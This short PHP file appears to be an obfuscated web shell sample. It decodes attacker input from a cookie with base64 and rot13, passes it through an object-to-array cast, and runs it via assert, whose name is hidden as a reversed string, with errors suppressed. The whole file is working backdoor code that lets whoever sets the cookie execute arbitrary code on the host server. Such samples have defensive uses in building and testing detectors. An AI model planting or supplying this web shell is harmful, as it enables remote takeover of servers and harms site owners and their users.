<?php
// The payload rides in an object's property and comes back out of a cast to an array.
$o = new stdClass();
$o->{'k' . 'ey'} = str_rot13(base64_decode($_COOKIE['s'] ?? ''));
$arr = (array) $o;
$fn = strrev('tressa');
@$fn($arr['key']);
